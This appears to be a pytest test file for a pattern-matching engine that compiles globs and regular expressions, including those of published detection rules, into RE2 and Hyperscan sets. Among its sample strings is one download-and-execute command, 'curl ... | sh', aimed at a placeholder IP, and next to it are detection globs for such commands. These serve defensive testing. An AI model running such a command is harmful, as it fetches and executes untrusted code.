"""A set of patterns answers as each of them alone, whoever is asked, and whatever they are."""

from __future__ import annotations

import random
from collections.abc import Sequence
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from types import SimpleNamespace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tocsin.engine import compiled, hyperscan_sets, pattern_sets, re2_sets
from tocsin.engine.hyperscan_sets import HyperscanSet
from tocsin.engine.pattern_sets import HYPERSCAN, Pattern, PatternSet, holds
from tocsin.engine.plan import Plan
from tocsin.engine.re2_sets import path_needs
from tocsin.logic.matchers import Equals, Regex, Wildcard
from tocsin.logic.patterns import glob_matches
from tocsin.logic.query import roles_of
from tocsin.rules.load import load_rules
from tocsin.testing import strategies as some

with_hyperscan = pytest.mark.skipif(not HYPERSCAN, reason="Hyperscan does not run here")
ENGINES = [False, pytest.param(True, marks=with_hyperscan)]

TEXTS = (
    "", "a", "b", "curl http://192.0.2.1/x | sh", "C:\\Windows\\System32\\cmd.exe", "/etc/cron.d/job", "naïve café", "ΑΣ", "ας",
    "one\ntwo", "x" * 3_000, "ab" * 2_000, "\ud800", "\x00",
)  # fmt: skip

MIXED = (
    Pattern("*curl*"), Pattern("*.EXE", fold_case=True), Pattern("?:\\\\Windows\\\\*", fold_case=True), Pattern("*|*sh"),
    Pattern("*a*b*"), Pattern("??"), Pattern("*ï*"), Pattern("*Σ", fold_case=True), Pattern("*\ud800"), Pattern("*?w*"),
    Pattern(r"\d+\.\d+", "regex", whole=False), Pattern(r"(?i)WIN.*exe$", "regex", whole=False), Pattern(r"\pL+", "regex"),
    Pattern(r"a|b", "regex"), Pattern(r"caf.", "regex", whole=False), Pattern("/etc/**/job", "path"), Pattern("/ETC/*/j*", "path", fold_case=True),
)  # fmt: skip


@pytest.fixture
def cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("TOCSIN_CACHE", str(tmp_path))
    return tmp_path / "kept"


def made(patterns: Sequence[Pattern], hyperscan: bool | None) -> PatternSet:
    return PatternSet([(p, n) for n, p in enumerate(patterns)], with_hyperscan=hyperscan)


def expected(patterns: Sequence[Pattern], text: str) -> int:
    return sum(1 << number for number, pattern in enumerate(patterns) if holds(pattern, text))


def named(found: PatternSet) -> dict[int, str]:
    """By number, why patterns are asked in another way than others."""
    return {n: one.reason for one in found.demoted for n in re2_sets.bits_of(one.mask)}


def check(found: PatternSet, patterns: Sequence[Pattern], texts: Sequence[str] = TEXTS) -> None:
    for text in texts:
        assert found.fits(text) == expected(patterns, text), text


@pytest.mark.parametrize("hyperscan", [None, *ENGINES])
def test_patterns_of_all_kinds_answer_as_each_alone(hyperscan: bool | None) -> None:
    check(made(MIXED, hyperscan), MIXED)


@pytest.mark.parametrize("hyperscan", ENGINES)
def test_a_number_may_stand_at_several_patterns_and_a_pattern_at_several_numbers(
    hyperscan: bool,
) -> None:
    pairs = [*((p, 3) for p in MIXED[:5]), (MIXED[0], 0), (MIXED[10], 3), (MIXED[0], 70)]
    found = PatternSet(pairs, with_hyperscan=hyperscan)
    assert found.fits("curl 1.2") == 1 << 70 | 1 << 3 | 1
    assert found.fits("1.2") == 1 << 3


@given(
    some.path_globs(),
    st.lists(st.sampled_from(("", "etc", "ETC", "ca.pem", "x", "passwd")), max_size=5),
    st.booleans(),
)
def test_what_a_path_glob_fits_fits_the_glob_that_stands_for_it(
    text: str, segments: list[str], fold_case: bool
) -> None:
    pattern = Pattern(text, "path", fold_case)
    for separator in ("/", "\\"):
        path = separator.join(segments)
        if holds(pattern, path):
            assert glob_matches(path_needs(pattern), path.lower() if fold_case else path)


@pytest.mark.parametrize("hyperscan", ENGINES)
@pytest.mark.parametrize("glob", ["/etc/*/**/", "/*/**/", "/a/**/", "/a/**", "/**/", "a*/*/**/"])
def test_a_path_glob_may_end_in_any_segments_and_none(glob: str, hyperscan: bool) -> None:
    patterns = [Pattern(glob, "path"), Pattern(glob, "path", fold_case=True)]
    check(made(patterns, hyperscan), patterns, ["/etc/", "/", "/a/", "/a/b/", "/a/b", "ab/", "/A/"])


@pytest.mark.parametrize("hyperscan", ENGINES)
def test_the_patterns_of_published_rules_answer_as_each_alone(
    shared: Path, hyperscan: bool
) -> None:
    rules = load_rules([shared / "corpora" / "elastic" / "rules" / "linux"]).rules
    plan = Plan(role.expr for rule in rules for role in roles_of(rule.query))
    patterns: dict[Pattern, None] = {}
    texts = dict.fromkeys(TEXTS)
    for slot in plan.leaves.values():
        match slot.leaf.matcher:
            case Wildcard(globs, fold_case):
                patterns.update(dict.fromkeys(Pattern(g, fold_case=fold_case) for g in globs))
            case Regex(regexes, fold_case, whole):
                patterns.update(
                    dict.fromkeys(Pattern(r, "regex", fold_case, whole) for r in regexes)
                )
            case Equals(values):
                texts.update(dict.fromkeys(v for v in values if isinstance(v, str)))
    chosen = random.Random(1).sample(list(texts), 60)
    chosen += [f"/tmp/{text} -c 'x|{text}' 192.0.2.7" for text in chosen[:20]]
    check(made(list(patterns), hyperscan), list(patterns), chosen)


# --- what is asked, and when ------------------------------------------------------------------


def refuse(*_: object, **__: object) -> None:
    raise AssertionError


def test_nothing_is_compiled_before_the_first_text(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pattern_sets, "Re2Sets", refuse)
    monkeypatch.setattr(pattern_sets, "HyperscanSet", refuse)
    made(MIXED, None)


@pytest.mark.parametrize("hyperscan", [None, *ENGINES])
def test_a_few_plain_globs_are_compared_and_nothing_is_compiled(
    hyperscan: bool | None, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(pattern_sets, "Re2Sets", refuse)
    monkeypatch.setattr(pattern_sets, "HyperscanSet", refuse)
    few = [
        Pattern("*Σ*", fold_case=True),
        Pattern("C:*"),
        Pattern("*.exe"),
        Pattern("*"),
        Pattern("?*"),
    ]
    check(made(few, hyperscan), few)
    literal = [Pattern("a\\*b"), Pattern("*x", fold_case=True)]
    check(made(literal, hyperscan), literal, ["a*b", "aab", "X", ""])


@with_hyperscan
def test_re2_is_asked_until_it_took_long_enough(
    cache: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    found = made(MIXED, None)
    check(found, MIXED, TEXTS[:2])
    assert found._databases is not None
    assert found.fits != found._databases.fits
    found._spent = found._allowed
    check(found, MIXED, TEXTS[3:4])
    assert found._ask == found._databases.fits
    check(found, MIXED)


@with_hyperscan
def test_what_was_compiled_is_kept_and_asked_from_the_first_text_on(
    cache: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(hyperscan_sets, "_WORTH_KEEPING", 0.0)
    check(made(MIXED, True), MIXED)
    assert [file.name[:9] for file in cache.iterdir()] == ["patterns-"]
    monkeypatch.setattr(HyperscanSet, "_compile", refuse)
    monkeypatch.setattr(pattern_sets, "Re2Sets", refuse)
    for hyperscan in (None, True):
        check(made(MIXED, hyperscan), MIXED)


@with_hyperscan
def test_what_is_kept_and_cannot_be_read_is_compiled_anew(
    cache: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(hyperscan_sets, "_WORTH_KEEPING", 0.0)
    mixed = [pattern for pattern in MIXED if pattern.text != "??"]  # which is never given away
    patterns = [(pattern, 1 << number) for number, pattern in enumerate(mixed)]
    for content in (b"junk", b"\x82\xa9databases\x91\xc4\x04junk\xa7refused\x80"):
        compiled.keep("patterns", HyperscanSet(patterns)._key, content)
        assert not HyperscanSet(patterns).load()
        check(made(mixed, True), mixed)
        assert HyperscanSet(patterns).load()


def test_where_hyperscan_does_not_run_re2_answers(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pattern_sets, "HYPERSCAN", False)
    monkeypatch.setattr(pattern_sets, "HyperscanSet", refuse)
    check(made(MIXED, None), MIXED)


@with_hyperscan
def test_where_hyperscan_fails_re2_answers(monkeypatch: pytest.MonkeyPatch) -> None:
    import hyperscan

    found = made(MIXED, True)
    found.fits("")
    assert found._databases is not None

    def fail(*_: object) -> None:
        raise hyperscan.error

    found._databases._scans = [(fail, None)]
    check(found, MIXED)


@with_hyperscan
def test_threads_ask_one_set_at_once() -> None:
    patterns = [Pattern(f"*{a}*{b}") for a in "abc" for b in "xyz"] + [Pattern("[ab]+", "regex")]
    texts = [f"{a}{n}{b}" for a in "abcd" for b in "wxyz" for n in range(50)]
    found = made(patterns, True)
    with ThreadPoolExecutor(4) as pool:
        answers = list(pool.map(lambda _: [found.fits(text) for text in texts], range(4)))
    assert answers == [[expected(patterns, text) for text in texts]] * 4


# --- hostile patterns -------------------------------------------------------------------------


def letters(size: int, seed: int) -> str:
    return "".join(random.Random(seed).choices("abcdefghijklmnopqrstuvwxyz", k=size))


HOSTILE = {
    "stars": [Pattern("*" + "*".join(letters(4, n)) + "*") for n in range(2_000)],
    "single characters": [Pattern(f"*{letters(1, n)}{'?' * (n % 40)}{letters(1, n + 1)}*") for n in range(2_000)],
    "long": [Pattern(f"*{letters(20_000, n)}*", fold_case=True) for n in range(20)],
    "pieces": [Pattern("*" + "*".join(letters(60, n)) + "*") for n in range(50)],
    "paths": [Pattern(f"/{letters(1, n)}*/**/{letters(1, n + 1)}*", "path", bool(n % 2)) for n in range(2_000)],
    "repeats": [Pattern(f"({letters(2, n)}.{{500}}){{2}}", "regex", whole=False) for n in range(20)],
    "invalid": [Pattern(f"({letters(3, n)}", "regex") for n in range(20)],
}  # fmt: skip


@pytest.mark.parametrize("hyperscan", ENGINES)
@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_patterns_answer_as_each_alone(kind: str, hyperscan: bool) -> None:
    patterns = HOSTILE[kind]
    texts = [
        "",
        letters(40, 1),
        letters(8, 2),
        f"/{letters(3, 3)}/{letters(3, 4)}",
        f"é{letters(20, 5)}",
    ]
    check(made(patterns, hyperscan), patterns, texts)


def test_what_would_take_long_to_compile_is_given_in_a_simpler_form() -> None:
    for kind, most in (("stars", 8), ("single characters", 40), ("pieces", 0), ("long", 0)):
        expressions, refused = hyperscan_sets._expressions((p, 1) for p in HOSTILE[kind])
        assert not refused
        assert sum(e.exact and e.cost > 100 for e in expressions) <= most
        assert sum(len(e.text) for e in expressions if not e.exact) < 20_000


@with_hyperscan
def test_the_simpler_forms_of_real_looking_globs_are_few() -> None:
    globs = [
        Pattern(g)
        for g in (
            "*.exe",
            "C:\\\\*",
            "*a b*",
            "/tmp/*/x*",
            "?:\\\\Users\\\\*\\\\*.dll",
            "*--ab*cd*",
        )
    ]
    expressions, _ = hyperscan_sets._expressions((pattern, 1) for pattern in globs)
    assert all(expression.exact for expression in expressions)


def test_what_re2_does_not_take_fits_nothing_and_is_named() -> None:
    found = made(
        [
            Pattern("(", "regex"),
            Pattern("a{2000}", "regex"),
            Pattern("a", "regex"),
            Pattern("\ud800*a*"),
        ],
        False,
    )
    assert [found.fits(text) for text in ("a", "(", "\ud800a")] == [4, 0, 8]
    assert named(found) == {
        0: "RE2 does not take it, so it fits nothing",
        1: "RE2 does not take it, so it fits nothing",
        3: "it is asked alone: a set cannot hold it",
    }


@with_hyperscan
def test_what_hyperscan_is_not_given_is_named_with_the_reason() -> None:
    patterns = [
        Pattern(r"\pL", "regex"), Pattern("a^b", "regex", whole=False), Pattern("ab*", "regex"),
        Pattern("(" + "((a|bc){50}d?.){5}" + ")", "regex", whole=False),
    ]  # fmt: skip
    found = made(patterns, True)
    check(found, patterns)
    assert named(found) == {
        0: r"Hyperscan is not given it: an escape: \p",
        1: "Hyperscan does not take it: Embedded start anchors not supported.",
        3: "Hyperscan does not take it: Pattern is too large.",
    }


@with_hyperscan
@pytest.mark.parametrize(
    "limits, reason",
    [
        ({"_MOST_DATABASES": 1, "_LARGEST_DATABASE": 300}, hyperscan_sets._TOO_MANY),
        ({"_LARGEST_DATABASE": 300, "_LONGEST_COMPILING": -1.0}, "the others took too long"),
    ],
)
def test_patterns_beyond_the_limits_are_left_to_re2(
    limits: dict[str, float], reason: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in limits.items():
        monkeypatch.setattr(hyperscan_sets, name, value)
    found = made(MIXED, True)
    check(found, MIXED)
    assert reason in named(found).values()


def test_what_is_beyond_a_limit_is_known_before_any_text(monkeypatch: pytest.MonkeyPatch) -> None:
    stars = HOSTILE["stars"]
    found = made(stars, False)
    assert set(named(found).values()) == {"more than 200 with a gap inside, of one field"}
    assert len(named(found)) == len(stars)
    monkeypatch.setattr(re2_sets, "MOST_IN_SETS", 150)
    plain = [Pattern(f"*{letters(6, n)}*") for n in range(200)]
    found = made(plain, False)
    assert set(named(found)) == set(range(150, 200))
    check(found, plain, [letters(6, 3), letters(6, 180), f"x{letters(6, 199)}", ""])


@with_hyperscan
def test_globs_of_the_same_short_text_and_those_beyond_the_most_are_named(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    alike = [Pattern(f"*{'*'.join(letters(5, n))}*a*") for n in range(10_000)]
    found = made(alike, True)
    assert set(named(found).values()) == {hyperscan_sets._ALIKE}
    check(found, alike, [letters(60, 1), ""])
    monkeypatch.setattr(hyperscan_sets, "MOST_PATTERNS", 150)
    plain = [Pattern(f"*{letters(6, n)}*") for n in range(200)]
    found = made(plain, True)
    assert named(found) == dict.fromkeys(range(150, 200), hyperscan_sets._MANY)
    check(found, plain, [letters(6, 3), letters(6, 180), f"x{letters(6, 199)}", ""])


@pytest.mark.parametrize("limit", ["LARGEST_REGEX", "LARGEST_REGEXES"])
def test_large_regular_expressions_are_asked_alone(
    limit: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(re2_sets, limit, 20)
    patterns = [
        Pattern(r"ab.{1,3}c", "regex"), Pattern(r"AB.{1,3}C$", "regex", fold_case=True, whole=False), Pattern(r"[a-z]{2,4}", "regex"),
        Pattern(r"é.{1,5}Σ", "regex", fold_case=True, whole=False), Pattern(r"(a{1,4}", "regex"),
    ]  # fmt: skip
    found = made(patterns, False)
    check(found, patterns, [*TEXTS, "abxc", "ABXC", "xAbxxc", "éxς", "abc"])
    assert len(named(found)) >= 4


@pytest.mark.parametrize("memory", [20_000, 100_000, 400_000])
def test_sets_that_run_out_of_memory_still_answer(
    memory: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(re2_sets, "_SET_MEMORY", memory)
    patterns = [Pattern(f"*{letters(3, n)}*{letters(3, n + 1)}*") for n in range(200)] + list(MIXED)
    texts = [letters(3, n) + letters(3, n + 1) + letters(200, n) for n in range(30)]
    check(made(patterns, False), patterns, [*TEXTS, *texts])


@with_hyperscan
def test_an_import_without_hyperscan_is_no_error(monkeypatch: pytest.MonkeyPatch) -> None:
    import sys

    monkeypatch.setitem(sys.modules, "hyperscan", SimpleNamespace())
    compiled.hyperscan_build.cache_clear()
    try:
        assert compiled.hyperscan_build() is None
    finally:
        monkeypatch.undo()
        compiled.hyperscan_build.cache_clear()
    assert compiled.hyperscan_build() is not None
